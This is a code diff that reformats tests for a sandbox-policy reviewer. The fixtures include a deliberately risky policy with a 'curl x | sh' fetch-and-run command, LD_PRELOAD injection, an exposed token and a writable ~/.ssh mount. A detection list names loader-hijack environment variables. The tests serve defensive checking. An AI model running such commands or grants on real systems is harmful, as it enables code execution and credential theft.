@@ -161,15 +161,16 @@ private Q_SLOTS:
     // Each dangerous grant is marked risky with a reason; harmless ones are listed but not marked.
     void reviewMarksDangerousFields()
     {
-        const QByteArray toml = "[image]\nbase = \"docker.io/evil/base:1\"\npackages = [\"jq\"]\n"
-                                "[run]\ncommand = [\"sh\", \"-c\", \"curl x | sh\"]\n"
-                                "[network]\nmode = \"open\"\nallow = [\"new.example\"]\n"
-                                "local = { \"db.internal\" = \"127.0.0.1:5432\" }\n"
-                                "[env]\nset = { PATH = \"/project/bin:/usr/bin\", LD_PRELOAD = \"/project/x.so\", "
-                                "GREETING = \"hi\", API_TOKEN = \"tok-4711\" }\npass = [\"*\"]\n"
-                                "[limits]\npids = 100\n"
-                                "[mounts]\nread_only = [\".git/hooks\", \"build\"]\nmasked = []\n"
-                                "extra = [{ source = \"/home/u/.ssh\", target = \"/keys\", mode = \"rw\" }]\n";
+        const QByteArray toml =
+            "[image]\nbase = \"docker.io/evil/base:1\"\npackages = [\"jq\"]\n"
+            "[run]\ncommand = [\"sh\", \"-c\", \"curl x | sh\"]\n"
+            "[network]\nmode = \"open\"\nallow = [\"new.example\"]\n"
+            "local = { \"db.internal\" = \"127.0.0.1:5432\" }\n"
+            "[env]\nset = { PATH = \"/project/bin:/usr/bin\", LD_PRELOAD = \"/project/x.so\", "
+            "GREETING = \"hi\", API_TOKEN = \"tok-4711\" }\npass = [\"*\"]\n"
+            "[limits]\npids = 100\n"
+            "[mounts]\nread_only = [\".git/hooks\", \"build\"]\nmasked = []\n"
+            "extra = [{ source = \"/home/u/.ssh\", target = \"/keys\", mode = \"rw\" }]\n";
         const PolicyReview r = reviewPolicy(toml);
         QVERIFY(r.parses());
         QVERIFY(!r.sinceApproval);
@@ -203,7 +204,8 @@ private Q_SLOTS:
         };
         for (const auto &e : expected) {
             const PolicyReview::Item *item = find(QString::fromUtf8(e.field), QString::fromUtf8(e.value));
-            const QString what = QString::fromUtf8(e.field) + QStringLiteral(": ") + QString::fromUtf8(e.value);
+            const QString what =
+                QString::fromUtf8(e.field) + QStringLiteral(": ") + QString::fromUtf8(e.value);
             QVERIFY2(item, qPrintable(what + QStringLiteral(" missing from\n") + r.text()));
             QVERIFY2(item->risky() == e.risky, qPrintable(what));
         }
@@ -251,8 +253,9 @@ private Q_SLOTS:
 
     void loaderVariables()
     {
-        for (const char *name : {"PATH", "LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "GCONV_PATH", "BASH_ENV",
-                                 "ENV", "NODE_OPTIONS", "PYTHONPATH", "PERL5OPT", "BASH_FUNC_x%%"})
+        for (const char *name :
+             {"PATH", "LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "GCONV_PATH", "BASH_ENV", "ENV",
+              "NODE_OPTIONS", "PYTHONPATH", "PERL5OPT", "BASH_FUNC_x%%"})
             QVERIFY2(isLoaderVariable(QString::fromLatin1(name)), name);
         for (const char *name : {"GREETING", "NODE_ENV", "LANG", "MY_PATH_NAME", "OLD_PATH"})
             QVERIFY2(!isLoaderVariable(QString::fromLatin1(name)), name);
